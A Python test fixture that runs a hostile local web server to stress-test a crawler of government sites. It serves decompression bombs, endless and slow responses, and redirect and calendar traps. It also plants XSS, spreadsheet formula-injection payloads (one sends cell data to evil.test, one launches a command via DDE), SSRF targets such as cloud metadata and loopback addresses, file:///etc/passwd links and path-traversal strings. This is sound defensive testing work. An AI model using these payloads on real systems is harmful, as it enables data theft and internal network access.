"""HostileServer: misbehaving government sites on 127.0.0.1 (bombs, slow and silent answers, traps, payloads)."""

from __future__ import annotations

import gzip
import socket
import threading
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import brotli

SITE = "www.hostile.test"       # the evaluated site (host_map sends it here)
SILENT = "silent.hostile.test"  # accepts every connection and never answers, robots.txt included
EXT = "ext.hostile.test"        # "another organisation": answers every link check, and counts them
MANY = "many.hostile.test"      # three pages of 30 outside links each: the per-site check limit ends it

BOMB_BYTES = 48 * 2**20         # what each compression bomb inflates to
HUGE_BYTES = 6 * 2**20          # a page past the test profile's 4 MB limit
LINKS_ON_PAGE = 50_000
LIST_PAGES = 1000               # an endless-looking list: index_1.html … index_999.html
SESSION_PAGES = 6               # the distinct pages behind the ;jsessionid= trap

# Payloads a hostile page puts into every string that can reach an output.
XSS = '<script>alert("xss")</script>'
FORMULA = '=HYPERLINK("http://evil.test/steal?x="&A1,"点击")'
FORMULAS = (FORMULA, "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3")
EVIL_TITLE = f"{XSS}关于{FORMULA}的通知"
EVIL_OFFICE = "../../逃逸<b>单位</b>"

_QUIET = (BrokenPipeError, ConnectionResetError, ConnectionAbortedError, TimeoutError, socket.timeout)


def _page(title: str, body: str, charset: str = "utf-8", head: str = "") -> str:
    return (f'<!DOCTYPE html><html><head><meta charset="{charset}"><title>{title}</title>{head}</head>'
            f"<body>{body}</body></html>")


class TrapListener:
    """Plain sockets on 127.0.0.1 and ::1 (one port) that count every connection: a refused-before-connecting
    address must leave them at zero."""

    def __init__(self):
        self.accepted: list[str] = []
        self._socks = []
        v4 = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        v4.bind(("127.0.0.1", 0))
        self.port = v4.getsockname()[1]
        self._socks.append(v4)
        try:
            v6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            v6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            v6.bind(("::1", self.port))
            self._socks.append(v6)
        except OSError:
            pass  # no IPv6 loopback here: [::1] then cannot connect at all
        self._stop = threading.Event()
        for s in self._socks:
            s.listen(16)
            s.settimeout(0.1)
            threading.Thread(target=self._accept, args=(s,), daemon=True).start()

    def _accept(self, sock):
        while not self._stop.is_set():
            try:
                conn, addr = sock.accept()
            except (socket.timeout, OSError):
                continue
            self.accepted.append(str(addr))
            conn.close()

    def close(self):
        self._stop.set()
        for s in self._socks:
            s.close()


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, owner: "HostileServer"):
        super().__init__(("127.0.0.1", 0), _Handler)
        self.owner = owner

    def handle_error(self, request, client_address):
        pass  # a client that gave up on a slow or endless answer is the point of this server


class _Handler(BaseHTTPRequestHandler):
    server: _Server
    protocol_version = "HTTP/1.1"
    timeout = 30

    def log_message(self, format, *args):  # noqa: A002 - signature of the base class
        pass

    def handle(self):
        try:
            super().handle()
        except _QUIET:
            self.close_connection = True

    def do_GET(self):
        self._serve(head=False)

    def do_HEAD(self):
        self._serve(head=True)

    def _serve(self, head: bool):
        owner = self.server.owner
        host = (self.headers.get("Host") or "").split(":")[0].lower()
        owner.log.append((host, "HEAD" if head else "GET", self.path))
        if host == SILENT:
            owner.stopping.wait(60)  # accepted, never answered
            self.close_connection = True
            return
        if host == EXT:
            return self._send(200, b"<html><body>ok</body></html>", head=head)
        if host == MANY:
            return self.many(urlsplit(self.path).path, head)
        path = urlsplit(self.path).path
        for prefix, handler in _ROUTES:
            if path == prefix or (prefix.endswith("/") and path.startswith(prefix)):
                return handler(self, path, head)
        self._send(404, _page("页面不存在", "<h1>404 页面不存在</h1>").encode("utf-8"), head=head)

    # -- sending ---------------------------------------------------------------------------------------
    def _send(self, status: int, body: bytes, ctype: str = "text/html; charset=utf-8", head: bool = False,
              extra: dict | None = None):
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in (extra or {}).items():
            self.send_header(k, v)
        self.end_headers()
        if not head:
            self.wfile.write(body)

    def _redirect(self, location: str, head: bool):
        self._send(302, b"", extra={"Location": location}, head=head)

    # -- routes ----------------------------------------------------------------------------------------
    def robots(self, path, head):
        self._send(200, b"User-agent: *\nDisallow: /private/\n", "text/plain", head)

    def home(self, path, head):
        if path != "/":
            return self._send(404, b"", head=head)
        o = self.server.owner
        trap = o.trap.port
        private = [f"http://localhost:{trap}/", f"http://localhost.localdomain:{trap}/",
                   f"http://2130706433:{trap}/", f"http://0177.0.0.1:{trap}/", f"http://0x7f000001:{trap}/",
                   f"http://127.1:{trap}/", f"http://[::1]:{trap}/", f"http://[::ffff:127.0.0.1]:{trap}/",
                   f"http://127.0.0.1:{trap}/", f"http://0.0.0.0:{trap}/", "http://10.1.2.3/",
                   "http://169.254.169.254/latest/meta-data/", "http://192.168.1.1/", "http://[fe80::1]/",
                   f"http://127.0.0.1:{o.port}/", *o.extra_private]
        hostile = ["/huge.html", "/huge-chunked.html", "/bomb-gzip.html", "/bomb-br.html", "/bomb-deflate.html",
                   "/slow.html", "/endless.html", "/binary.html", "/enc/lying-header.html", "/enc/lying-meta.html",
                   "/enc/mixed.html", "/nest.html", "/cut.html", "/dataloss.html", "/garbage.html", "/loop/a",
                   "/chain/30", "/go/metadata", "/go/loopback", "/go/decimal", "/go/file", "/go/ftp",
                   "/links.html", "/calendar?y=2026&m=1", "/cal/2026/01/", "/j/a0.jsp;jsessionid=0000",
                   "/files/bomb.xlsx", "/images/bomb.jpg"]
        items = "".join(f'<li><a href="{u}">页面{i}</a></li>' for i, u in enumerate(hostile))
        items += "".join(f'<li><a href="{u}">私网{i}</a></li>' for i, u in enumerate(private))
        items += ('<li><a href="file:///etc/passwd">文件</a></li><li><a href="ftp://10.0.0.1/x.doc">FTP</a></li>'
                  '<li><a href="javascript:alert(1)">脚本</a></li>'
                  '<li><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">数据</a></li>'
                  f'<li><a href="/missing.html">{FORMULAS[2]}</a></li>'
                  f'<li><a href="/missing2.html">{XSS.replace("<", "&lt;")}</a></li>')
        body = (f'<div class="nav"><ul><li><a href="/">首页</a></li><li><a href="/news/">新闻动态</a></li>'
                f'<li><a href="/tzgg/">@SUM(1+1)通知</a></li><li><a href="/j/a0.jsp;jsessionid=1111">政策文件</a></li>'
                f"</ul></div><h1>示例县人民政府</h1><img src='file:///etc/shadow'><ul>{items}</ul>"
                f'<div class="footer">主办单位：示例县人民政府办公室 网站标识码：0000000001</div>')
        self._send(200, _page(f"示例县人民政府{XSS.replace('<', '&lt;')}", body).encode("utf-8"), head=head)

    def news(self, path, head):
        """A list column with 1000 numbered pages: the profile's max_list_pages must stop it, visibly."""
        name = path.rsplit("/", 1)[-1]
        n = int(name[6:-5]) if name.startswith("index_") else 0
        entries = "".join(f'<li><a href="/news/a{n * 20 + i}.html">示例县新闻{n * 20 + i}</a>'
                          f'<span>2026-11-{(i % 28) + 1:02d}</span></li>' for i in range(20))
        pager = "".join(f'<a href="index_{k}.html">{k + 1}</a>' for k in range(1, 6))
        pager = f'<div class="page">共{LIST_PAGES}页 {pager}<a href="index_{n + 1}.html">下一页</a>' \
                f'<a href="index_{LIST_PAGES - 1}.html">尾页</a></div>'
        if name.startswith("a"):
            return self._send(200, _page("示例县新闻", "<h1>示例县新闻</h1><p>正文。</p>").encode(), head=head)
        body = f'<div class="crumb">首页 &gt; 新闻动态</div><ul class="list">{entries}</ul>{pager}'
        self._send(200, _page("新闻动态", body).encode("utf-8"), head=head)

    def notices(self, path, head):
        """A column whose every printed string carries XSS and formula payloads."""
        titles = [EVIL_TITLE, f"{FORMULA}的通知", "@SUM(1+1)关于开展检查的通知"]
        if path.endswith(".html"):
            title = titles[int(path.rsplit("/t", 1)[-1].split(".")[0]) % 3].replace("<", "&lt;")
            block = ("<table class='xxgk'><tr><td>索引号：</td><td>@SUM(1+1)</td><td>发布机构：</td>"
                     f"<td>{FORMULAS[2]}</td></tr><tr><td>文号：</td><td>{FORMULA}</td><td>发布日期：</td>"
                     "<td>2024-01-05</td></tr></table>")
            body = f"<h1>{title}</h1>{block}<div class='content'><p>{title}</p></div>"
            return self._send(200, _page(title, body).encode("utf-8"), head=head)
        entries = "".join(f'<li><a href="/tzgg/t{i}.html">{titles[i].replace("<", "&lt;")}</a>'
                          f"<span>2024-01-0{i + 1}</span></li>" for i in range(3))
        body = f'<div class="crumb">首页 &gt; {FORMULAS[1]}通知</div><ul class="list">{entries}</ul>'
        self._send(200, _page(f"{FORMULAS[1]}通知", body).encode("utf-8"), head=head)

    def huge(self, path, head):
        filler = b"<p>" + "示例县大页面".encode() * 20 + b"</p>\n"
        body = _page("大页面", "").encode()[:-14] + filler * (HUGE_BYTES // len(filler)) + b"</body></html>"
        if path == "/huge.html":
            return self._send(200, body, head=head)
        # no Content-Length: the limit must hold on the bytes as they arrive
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Connection", "close")
        self.end_headers()
        self.close_connection = True
        if not head:
            for i in range(0, len(body), 65536):
                self.wfile.write(body[i:i + 65536])

    def bomb(self, path, head):
        kind = path.rsplit("-", 1)[-1].split(".")[0] if path.startswith("/bomb") else \
            {"/files/bomb.xlsx": "br", "/images/bomb.jpg": "gzip"}[path]
        ctype = {"/files/bomb.xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                 "/images/bomb.jpg": "image/jpeg"}.get(path, "text/html; charset=utf-8")
        self._send(200, bombs()[kind], ctype, head, extra={"Content-Encoding": kind})

    def slow(self, path, head):
        """One byte every 2 seconds of a 200-byte page: only a total time limit per request ends it (the
        first byte comes before the test profile's 2 s limit, so no single wait is longer than it)."""
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", "200")
        self.end_headers()
        stopping = self.server.owner.stopping
        for i in range(200):
            if head or stopping.wait(1.5 if i == 0 else 2):
                return
            self.wfile.write(b" ")
            self.wfile.flush()

    def endless(self, path, head):
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Connection", "close")
        self.end_headers()
        self.close_connection = True
        if head:
            return
        self.wfile.write(b"<html><head><title>endless</title></head><body>")
        stopping = self.server.owner.stopping
        while not stopping.wait(0.05):
            self.wfile.write(b"<p>endless</p>" * 20)
            self.wfile.flush()

    def binary(self, path, head):
        seed = bytearray()
        state = 1
        while len(seed) < 200_000:
            state = (state * 1103515245 + 12345) & 0x7FFFFFFF
            seed += state.to_bytes(4, "little")
        self._send(200, b"\x00\x01PK\x03\x04" + bytes(seed), head=head)

    def encodings(self, path, head):
        title = "示例县财政局关于预算公开的通知"
        if path.endswith("lying-header.html"):  # the header says UTF-8, the bytes are GBK
            body = _page(title, f"<h1>{title}</h1><p>正文内容。</p>", charset="gbk").replace(
                '<meta charset="gbk">', "").encode("gbk")
            return self._send(200, body, "text/html; charset=utf-8", head)
        if path.endswith("lying-meta.html"):    # the page's meta says GB2312, the bytes are UTF-8
            return self._send(200, _page(title, f"<h1>{title}</h1>", charset="gb2312").encode("utf-8"),
                              "text/html", head)
        # mixed: a UTF-8 page with a GBK-encoded block pasted into it
        body = _page(title, f"<h1>{title}</h1><p>{'正文内容以UTF-8编码。' * 20}</p><p>").encode("utf-8") \
            + "这一段从GBK页面粘贴而来".encode("gbk") * 3 + b"</p></body></html>"
        self._send(200, body, "text/html; charset=utf-8", head)

    def nest(self, path, head):
        depth = 10_000
        body = "<div>" * depth + "<p>深层内容</p>" + "</div>" * depth + "<b>" * depth + "未闭合" \
               + "<table><tr><td>" * 2000 + "表格"
        self._send(200, _page("深层嵌套页面", body).encode("utf-8"), head=head)

    def cut(self, path, head):
        self._send(200, '<html><head><title>截断的页面</title></head><body><div class="x" id="y'.encode(), head=head)

    def dataloss(self, path, head):
        body = _page("声明长度不符", "<p>" + "内容" * 500 + "</p>").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body) * 3))
        self.send_header("Connection", "close")
        self.end_headers()
        self.close_connection = True
        if not head:
            self.wfile.write(body)

    def garbage(self, path, head):
        body = ("<<<>>><a href=\"><title>乱码</title></html><body><html></head><tr><td></table>"
                "<a href=http://[::1:bad/>坏地址</a><a href='http://%zz%/'>坏编码</a><a href=\"http://a b/\">空格</a>"
                "<!-- unclosed comment <script>document.write('<a href=/x>')</script> &#xFFFFFFFF; &#0; \x00"
                "<a href=\"http://www.hostile.test:99999/\">坏端口</a><meta http-equiv=refresh content='0;url=javascript:x'>")
        self._send(200, body.encode("utf-8", "surrogatepass"), head=head)

    def loop(self, path, head):
        self._redirect("/loop/b" if path == "/loop/a" else "/loop/a", head)

    def chain(self, path, head):
        n = int(path.rsplit("/", 1)[-1] or 0)
        if n <= 0:
            return self._send(200, _page("链的终点", "<p>终点</p>").encode(), head=head)
        self._redirect(f"/chain/{n - 1}", head)

    def go(self, path, head):
        trap = self.server.owner.trap.port
        target = {"/go/metadata": "http://169.254.169.254/latest/meta-data/iam/",
                  "/go/loopback": f"http://127.0.0.1:{trap}/admin",
                  "/go/decimal": f"http://2130706433:{trap}/",
                  "/go/file": "file:///etc/passwd", "/go/ftp": "ftp://10.0.0.1/"}[path]
        self._redirect(target, head)

    def links(self, path, head):
        items = "".join(f'<a href="http://{EXT}/p/{i}">{i}</a>' for i in range(LINKS_ON_PAGE))
        self._send(200, _page("五万个链接", f"<div>{items}</div>").encode(), head=head)

    def many(self, path, head):
        if path == "/robots.txt":
            return self._send(200, b"", "text/plain", head)
        if path == "/":
            links = "".join(f'<a href="/m/{k}.html">第{k}页</a>' for k in range(3))
        else:
            k = path.rsplit("/", 1)[-1].split(".")[0]
            links = "".join(f'<a href="http://{EXT}/m{k}/{i}">外链{i}</a>' for i in range(30))
        self._send(200, _page("示例县外链页", links).encode(), head=head)

    def calendar(self, path, head):
        parts = [p for p in path.split("/") if p]
        if len(parts) == 3:   # /cal/2026/01/: a month that links to the next, for ever
            y, m = int(parts[1]), int(parts[2])
            y, m = (y + 1, 1) if m == 12 else (y, m + 1)
            link = f"/cal/{y}/{m:02d}/"
        else:
            q = dict(p.split("=") for p in self.path.split("?", 1)[-1].split("&") if "=" in p)
            y, m = int(q.get("y", 2026)), int(q.get("m", 1))
            y, m = (y + 1, 1) if m == 12 else (y, m + 1)
            link = f"/calendar?y={y}&m={m}"
        self._send(200, _page("日历", f'<a href="{link}">下个月</a>').encode(), head=head)

    def session(self, path, head):
        """Every answer links the same few pages under a fresh ;jsessionid= (a server that saw no cookie)."""
        owner = self.server.owner
        with owner.lock:
            owner.session_counter += 1
            sid = f"{owner.session_counter:032X}"
        links = "".join(f'<li><a href="/j/a{k}.jsp;jsessionid={sid}">文件{k}</a>'
                        f'<span>2026-11-0{k + 1}</span></li>' for k in range(SESSION_PAGES))
        self._send(200, _page("政策文件", f'<ul class="list">{links}</ul>').encode(), head=head)


_ROUTES = [
    ("/robots.txt", _Handler.robots), ("/news/", _Handler.news), ("/tzgg/", _Handler.notices),
    ("/huge.html", _Handler.huge), ("/huge-chunked.html", _Handler.huge),
    ("/bomb-gzip.html", _Handler.bomb), ("/bomb-br.html", _Handler.bomb), ("/bomb-deflate.html", _Handler.bomb),
    ("/files/bomb.xlsx", _Handler.bomb), ("/images/bomb.jpg", _Handler.bomb),
    ("/slow.html", _Handler.slow), ("/endless.html", _Handler.endless), ("/binary.html", _Handler.binary),
    ("/enc/", _Handler.encodings), ("/nest.html", _Handler.nest), ("/cut.html", _Handler.cut),
    ("/dataloss.html", _Handler.dataloss), ("/garbage.html", _Handler.garbage), ("/loop/", _Handler.loop),
    ("/chain/", _Handler.chain), ("/go/", _Handler.go), ("/links.html", _Handler.links),
    ("/calendar", _Handler.calendar), ("/cal/", _Handler.calendar), ("/j/", _Handler.session),
    ("/", _Handler.home),
]

_BOMBS: dict[str, bytes] = {}


def bombs() -> dict[str, bytes]:
    """gzip, brotli and deflate bodies of BOMB_BYTES zeros (made once: a few hundred kilobytes at most)."""
    if not _BOMBS:
        zeros = b"\0" * BOMB_BYTES
        _BOMBS["gzip"] = gzip.compress(zeros, 9)
        _BOMBS["br"] = brotli.compress(zeros, quality=5)
        _BOMBS["deflate"] = zlib.compress(zeros, 9)
    return _BOMBS


class HostileServer:
    """The hostile site, the silent site and the external host on one port, plus a TrapListener."""

    def __init__(self):
        self.log: list[tuple[str, str, str]] = []   # (host, method, path) of every request
        self.stopping = threading.Event()
        self.lock = threading.Lock()
        self.session_counter = 0
        self.extra_private: list[str] = []   # more loopback URLs for the homepage (e.g. a name from /etc/hosts)
        self.trap = TrapListener()
        self._server = _Server(self)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.1},
                                        daemon=True)

    def __enter__(self) -> "HostileServer":
        bombs()
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.stopping.set()
        self._server.shutdown()
        self._server.server_close()
        self.trap.close()

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.port}"

    def requests(self, host: str = SITE, prefix: str = "") -> list[str]:
        return [path for h, _, path in list(self.log) if h == host and path.startswith(prefix)]


def profiles(server: HostileServer, **limits) -> dict:
    """The hostile, silent and many-links sites as one profile file's `sites`, with small limits for a fast run."""
    base = dict(timeout=2, delay=0, concurrency_per_host=8, max_pages=80, max_depth=4, max_list_pages=3,
                max_rendered_pages=0, max_page_mb=4, max_link_checks_per_page=40, max_link_checks=1000)
    base.update(limits)
    site = dict(id="hostile", name="示例县人民政府", office=EVIL_OFFICE, site_code="0000000001",
                homepage=f"http://{SITE}/", allowed_domains=[SITE],
                host_map={SITE: server.address, EXT: server.address}, limits=base,
                columns=[dict(name="通知公告", url=f"http://{SITE}/tzgg/", office="../../../tmp/逃逸科室")])
    silent = dict(id="silent", name="示例县无响应局", office="示例县无响应局", site_code="0000000002",
                  homepage=f"http://{SILENT}/", allowed_domains=[SILENT], host_map={SILENT: server.address},
                  limits=dict(base, timeout=1))
    many = dict(id="many", name="示例县外链局", office="示例县外链局", site_code="0000000003",
                homepage=f"http://{MANY}/", allowed_domains=[MANY], host_map={MANY: server.address, EXT: server.address},
                limits=dict(base, max_link_checks=50))
    return {"sites": [site, silent, many]}
